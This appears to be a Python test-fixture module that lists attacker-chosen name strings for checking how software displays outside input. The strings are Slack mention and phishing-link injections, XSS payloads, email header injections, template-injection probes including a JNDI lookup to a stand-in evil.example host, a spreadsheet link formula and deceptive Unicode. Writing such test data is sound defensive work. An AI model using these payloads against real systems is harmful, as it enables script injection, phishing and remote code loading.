"""Names as an attacker would choose them, for whatever shows names from outside."""

SLACK = [
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "<@U024BE7LH>",
    "<#C024BE7LR|general>",
    "<!subteam^SAZ94GDB8>",
    "<http://evil.example|pay here>",
    "<https://evil.example>",
    "<mailto:eve@evil.example|Eve>",
    "<!date^1392734382^{date}^https://evil.example|soon>",
    "*bold* _slant_ ~gone~ `code`",
    "```\nblock\n```",
    "> quoted",
    "&lt;!channel&gt;",
    "&amp;lt;!here&amp;gt;",
    ":skull: :+1:",
    "@channel @here",
    "#general",
]
HTML = [
    "<script>alert(1)</script>",
    "<img src=https://evil.example/x.png onerror=alert(1)>",
    "</td></table><h1>gone",
    '" onmouseover="alert(1)',
    "' style='display:none",
    "<a href='https://evil.example'>pay</a>",
    "<!-- ",
    "-->",
    "]]>",
    "<style>*{display:none}</style>",
    "&#60;b&#62;",
    "javascript:alert(1)",
]
LINES = [
    "a\r\nBcc: eve@evil.example",
    "a\nSubject: other",
    "a\r\n\r\nbody",
    "a\r\n.\r\nQUIT\r\n",
    "a\x0bBcc: eve@evil.example",
    "a\u2028Bcc: eve@evil.example",
    "=?utf-8?q?a=0D=0ABcc:_eve=40evil.example?=",
]
TEMPLATES = [
    "{0.__class__}",
    "{{7*7}}",
    "%(x)s %s %n",
    "${jndi:ldap://evil.example/a}",
    "#{7*7}",
    "<%= 7*7 %>",
    "$HOME",
    '=HYPERLINK("https://evil.example")',
    "[pay](https://evil.example)",
]
CHARACTERS = [
    "🦊 👩\u200d👩\u200d👧 e\u0301\u0301\u0301",
    "\u202egnp.exe",
    "\u2066right\u2069 \u200bnothing\ufeff",
    "名前 имя اسم",
    "\x00\x07\x1b[31mred",
    "\ud800 half",
    "x" * 1_500,
]
HOSTILE = [*SLACK, *HTML, *LINES, *TEMPLATES, *CHARACTERS]
